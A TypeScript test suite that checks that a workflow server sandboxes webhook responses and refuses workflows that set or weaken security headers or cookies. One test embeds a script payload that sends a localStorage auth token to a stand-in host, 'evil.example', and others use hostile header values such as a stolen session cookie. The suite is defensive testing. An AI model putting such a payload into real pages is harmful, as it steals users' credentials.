import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SWAGGER_UI_CSP } from '../../src/common/security-headers.js';
import { EXECUTION_VIEW_CSP } from '../../src/executions/execution-view.renderer.js';
import { createWebhook, createWorkflow, nodeRecord, waitForExecution, workflowBody, type NodeSpec } from '../support/factories.js';
import { startTestApp, type TestApp } from '../support/test-app.js';

interface Answer {
  status: number;
  text: string;
  headers: Record<string, string>;
}

/** The two ways into a webhook: the fast path, and Express (a trailing slash, which the fast path declines). */
const ROUTES = ['fast path', 'Express'] as const;
type Route = (typeof ROUTES)[number];

/**
 * docs/security.md, issue 22 item 1 and 6, issue 14 bug 1: webhook answers are content chosen by a
 * member's workflow, so they are sandboxed and cannot touch the security headers; respondToWebhook
 * answers raw text when asked to, with a status from 200 to 599 whatever an expression yields.
 */
describe('webhook answers are untrusted content', () => {
  let t: TestApp;
  let base: string;
  beforeAll(async () => {
    t = await startTestApp();
    base = await t.app.getUrl();
  });
  afterAll(() => t?.close());

  async function call(path: string, init: { method?: string; body?: string; headers?: Record<string, string> } = {}, route: Route = 'fast path'): Promise<Answer> {
    const target = route === 'Express' ? path.replace(/^(\/webhook\/handler\/[0-9a-f-]{36})/, '$1/') : path;
    const response = await fetch(`${base}${target}`, { method: init.method ?? 'POST', headers: { 'content-type': 'application/json', ...init.headers }, body: init.body, redirect: 'manual' });
    return { status: response.status, text: await response.text(), headers: Object.fromEntries(response.headers) };
  }

  const replying = (reply: Record<string, unknown>, extra: Partial<NodeSpec> = {}) =>
    workflowBody([{ name: 'Hook', type: 'trigger' }, { name: 'Reply', type: 'respondToWebhook', parameters: reply, ...extra }], [['Hook', 'Reply']]);

  async function replyingHook(reply: Record<string, unknown>, webhook: Record<string, unknown> = {}): Promise<string> {
    const workflow = await createWorkflow(t, replying(reply));
    return `/webhook/handler/${(await createWebhook(t, workflow.id, { responseMode: 'responseNode', ...webhook })).id}`;
  }

  const expectSandboxed = (answer: Answer, label: string) => {
    expect(answer.headers['content-security-policy'], label).toBe('sandbox');
    expect(answer.headers['x-content-type-options'], label).toBe('nosniff');
    expect(answer.headers['x-frame-options'], label).toBe('SAMEORIGIN');
    expect(answer.headers['strict-transport-security'], label).toMatch(/max-age=\d+/);
    expect(answer.headers['set-cookie'], label).toBeUndefined();
  };

  it('sandboxes every answer on /webhook/*, both paths, success and error alike', async () => {
    const plain = await createWorkflow(t, workflowBody([{ name: 'Hook', type: 'trigger', parameters: { requiredFields: ['n'] } }], []));
    const hook = `/webhook/handler/${(await createWebhook(t, plain.id)).id}`;
    const html = await replyingHook({ headers: { 'Content-Type': 'text/html' }, body: '<script>fetch("https://evil.example/?k=" + localStorage.getItem("authorized"))</script>' });
    for (const route of ROUTES) {
      const answers: Array<[string, Answer]> = [
        ['202', await call(hook, { body: '{"n":1}' }, route)],
        ['400 malformed', await call(hook, { body: '{"n":' }, route)],
        ['400 missing field', await call(hook, { body: '{}' }, route)],
        ['404', await call('/webhook/handler/0190b6a5-0000-7000-8000-000000000000', { body: '{}' }, route)],
        ['405', await call(hook, { method: 'PUT', body: '{}' }, route)],
        ['respondToWebhook text/html', await call(html, { body: '{}' }, route)],
      ];
      for (const [label, answer] of answers) expectSandboxed(answer, `${route} ${label}`);
      expect(answers.map(([, answer]) => answer.status)).toEqual([202, 400, 400, 404, 405, 200]);
      expect(answers[5][1].headers['content-type']).toBe('text/html');
    }
    // Resume links and paths nothing serves are /webhook/* too.
    expectSandboxed(await call('/webhook/resume/not-a-token', { body: '{}' }), 'resume 404');
    expectSandboxed(await call('/webhook/nothing-here', { method: 'GET' }), 'unknown webhook path');
    expectSandboxed(await call(`/WEBHOOK/handler/0190b6a5-0000-7000-8000-000000000000`, { body: '{}' }), 'upper-case path');
  });

  it('refuses a workflow that sets or weakens a security header or a cookie on its answer: 400 naming the node and header', async () => {
    const reserved = {
      'Content-Security-Policy': "default-src *; script-src 'unsafe-inline'",
      'content-security-policy-report-only': 'x',
      'X-Content-Type-Options': 'sniff',
      'X-Frame-Options': 'ALLOWALL',
      'Strict-Transport-Security': 'max-age=0',
      'Referrer-Policy': 'unsafe-url',
      'Cross-Origin-Opener-Policy': 'unsafe-none',
      'Cross-Origin-Resource-Policy': 'cross-origin',
      'Permissions-Policy': 'camera=*',
      'Set-Cookie': 'session=stolen; Path=/',
    };
    for (const [name, value] of Object.entries(reserved)) {
      const response = await t.http.post('/workflows').set(t.admin).send(replying({ headers: { [name]: value }, body: 'x' }));
      expect(response.status, name).toBe(400);
      expect(JSON.stringify(response.body.message), name).toContain(`Reply`);
      expect(JSON.stringify(response.body.message), name).toContain(`parameter \\"headers.${name}\\" is not allowed`);
    }
    // Ordinary headers, CORS included, stay the workflow's to set.
    const allowed = await replyingHook({ headers: { 'X-Trace': 'abc', 'Access-Control-Allow-Origin': '*', 'Cache-Control': 'no-store', Location: '/next' }, statusCode: 302, body: '' });
    for (const route of ROUTES) {
      const answer = await call(allowed, { body: '{}' }, route);
      expect(answer.status).toBe(302);
      expect(answer.headers).toMatchObject({ 'x-trace': 'abc', 'access-control-allow-origin': '*', 'cache-control': 'no-store', location: '/next' });
    }
  });

  it('fails the node, not the headers, when an expression supplies reserved headers at run time', async () => {
    const path = await replyingHook({ headers: '{{ $trigger.body.headers }}', body: 'ok' });
    for (const route of ROUTES) {
      const answer = await call(path, { body: JSON.stringify({ headers: { 'X-Frame-Options': 'ALLOWALL', 'set-cookie': 'a=b', 'content-security-policy': 'default-src *' } }) }, route);
      expect(answer.status).toBe(500);
      expectSandboxed(answer, route);
      const body = JSON.parse(answer.text);
      expect(body.status).toBe('FAILED');
      expect(body.error).toContain('parameter "headers.X-Frame-Options" is not allowed: the server sets this security header');
      expect(body.error).toContain('parameter "headers.set-cookie" is not allowed: a webhook answer cannot set cookies');
      const failed = await waitForExecution(t, body.executionId);
      expect(nodeRecord(failed, 'Reply').status).toBe('FAILED');
    }
  });

  it('answers the Meta hub.challenge handshake with the bare value, the same on both paths', async () => {
    const workflow = await createWorkflow(
      t,
      workflowBody(
        [
          { name: 'Hook', type: 'trigger' },
          { name: 'Verify', type: 'respondToWebhook', parameters: { headers: { 'Content-Type': 'text/plain' }, body: '{{ $trigger.query.`hub.challenge` }}' } },
        ],
        [['Hook', 'Verify']],
      ),
    );
    const hook = await createWebhook(t, workflow.id, { method: 'GET', responseMode: 'responseNode' });
    for (const route of ROUTES) {
      const answer = await call(`/webhook/handler/${hook.id}?hub.mode=subscribe&hub.challenge=1158201444&hub.verify_token=meta`, { method: 'GET' }, route);
      expect(answer.status, route).toBe(200);
      expect(answer.text, route).toBe('1158201444');
      expect(answer.headers['content-type'], route).toBe('text/plain');
      expect(answer.headers['content-length'], route).toBe('10');
      expectSandboxed(answer, route);
    }
  });

  it('sends a string as it is, objects and arrays as JSON, and follows responseFormat', async () => {
    const cases: Array<[Record<string, unknown>, string, string]> = [
      [{ body: 'plain "text"' }, 'plain "text"', 'text/plain; charset=utf-8'],
      [{ body: '{{ $trigger.body.word }}' }, 'hello', 'text/plain; charset=utf-8'],
      [{ body: { a: [1, 'two'] } }, '{"a":[1,"two"]}', 'application/json; charset=utf-8'],
      [{ body: ['x', 2] }, '["x",2]', 'application/json; charset=utf-8'],
      [{ body: '{{ $trigger.body.count }}' }, '42', 'application/json; charset=utf-8'],
      [{ body: 'quoted', responseFormat: 'json' }, '"quoted"', 'application/json; charset=utf-8'],
      [{ body: { a: 1 }, responseFormat: 'text' }, '{"a":1}', 'text/plain; charset=utf-8'],
      [{ body: 7, responseFormat: 'text' }, '7', 'text/plain; charset=utf-8'],
      [{ body: '<p>hi</p>', headers: { 'content-type': 'text/html; charset=utf-8' } }, '<p>hi</p>', 'text/html; charset=utf-8'],
      [{ body: 'x,y\n1,2\n', headers: { 'Content-Type': 'text/csv' } }, 'x,y\n1,2\n', 'text/csv'],
    ];
    for (const [reply, text, type] of cases) {
      const path = await replyingHook(reply);
      for (const route of ROUTES) {
        const answer = await call(path, { body: JSON.stringify({ word: 'hello', count: 42 }) }, route);
        expect({ status: answer.status, text: answer.text, type: answer.headers['content-type'] }, `${route} ${JSON.stringify(reply)}`).toEqual({ status: 200, text, type });
      }
    }
    const wrongFormat = await t.http.post('/workflows').set(t.admin).send(replying({ responseFormat: 'xml' }));
    expect(wrongFormat.status).toBe(400);
    expect(JSON.stringify(wrongFormat.body.message)).toContain('responseFormat');
  });

  it('answers only statuses from 200 to 599: a literal one is refused on save, an expression one fails the node', async () => {
    for (const statusCode of [100, 101, 199, 600]) {
      const response = await t.http.post('/workflows').set(t.admin).send(replying({ statusCode }));
      expect(response.status, String(statusCode)).toBe(400);
      expect(JSON.stringify(response.body.message), String(statusCode)).toContain('statusCode');
    }
    const path = await replyingHook({ statusCode: '{{ $trigger.body.status }}', headers: { Upgrade: 'websocket', Connection: 'Upgrade' }, body: 'tunnel?' });
    for (const route of ROUTES) {
      for (const status of [101, 100, 99, 600, 'abc']) {
        const answer = await call(path, { body: JSON.stringify({ status }) }, route);
        expect(answer.status, `${route} ${status}`).toBe(500);
        const body = JSON.parse(answer.text);
        expect(body.error, `${route} ${status}`).toBe(`Node "Reply" failed: parameter "statusCode" must be an HTTP status code from 200 to 599, got ${JSON.stringify(status)}`);
      }
      // A valid one goes through, and the framing headers stay the server's.
      const fine = await call(path, { body: JSON.stringify({ status: 299 }) }, route);
      expect(fine.status).toBe(299);
      expect(fine.text).toBe('tunnel?');
      expect(fine.headers.upgrade).toBeUndefined();
      expect(fine.headers.connection).not.toMatch(/upgrade/i);
    }
  });

  it('runs nothing for a HEAD to a GET webhook (link prefetchers), and stores no execution', async () => {
    const workflow = await createWorkflow(t, workflowBody([{ name: 'Hook', type: 'trigger' }, { name: 'Out', type: 'set', parameters: { values: { ran: true } } }], [['Hook', 'Out']]));
    const hook = await createWebhook(t, workflow.id, { method: 'GET', responseMode: 'lastNode' });
    for (const route of ROUTES) {
      const head = await call(`/webhook/handler/${hook.id}?from=preview`, { method: 'HEAD' }, route);
      expect(head.status, route).toBe(200);
      expect(head.text, route).toBe('');
      expectSandboxed(head, route);
    }
    expect((await t.http.get(`/executions/workflow/${workflow.id}`).set(t.admin).expect(200)).body.items).toEqual([]);
    // A HEAD to a webhook of another method is still a 405; an unknown one still a 404.
    const post = await createWebhook(t, workflow.id);
    expect((await call(`/webhook/handler/${post.id}`, { method: 'HEAD' })).status).toBe(405);
    expect((await call('/webhook/handler/0190b6a5-0000-7000-8000-000000000000', { method: 'HEAD' })).status).toBe(404);
    // The GET itself runs the workflow.
    expect(JSON.parse((await call(`/webhook/handler/${hook.id}`, { method: 'GET' })).text)).toEqual({ ran: true });
    expect((await t.http.get(`/executions/workflow/${workflow.id}`).set(t.admin).expect(200)).body.items).toHaveLength(1);
  });

  it('gives Swagger UI, the execution view and the JSON API strict policies of their own', async () => {
    const docs = await t.http.get('/docs/').expect(200);
    expect(docs.headers['content-security-policy']).toBe(SWAGGER_UI_CSP);
    expect(SWAGGER_UI_CSP).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline/);
    const swaggerInit = await t.http.get('/docs/swagger-ui-init.js').expect(200);
    expect(swaggerInit.text).toContain('"persistAuthorization": false');
    const workflow = await createWorkflow(t, workflowBody([{ name: 'Hook', type: 'trigger' }], []));
    const run = await t.http.post(`/workflows/${workflow.id}/run`).set(t.admin).send({}).expect(200);
    expect(run.headers['content-security-policy']).toBe("default-src 'none'; frame-ancestors 'none'; sandbox");
    const [execution] = (await t.http.get(`/executions/workflow/${workflow.id}`).set(t.admin).expect(200)).body.items;
    const view = await t.http.get(`/executions/${execution.id}/view`).set(t.admin).expect(200);
    expect(view.headers['content-security-policy']).toBe(EXECUTION_VIEW_CSP);
    expect(EXECUTION_VIEW_CSP).toBe("default-src 'none'; style-src 'unsafe-inline'; img-src data:; frame-ancestors 'none'; base-uri 'none'; form-action 'none'");
  });
});
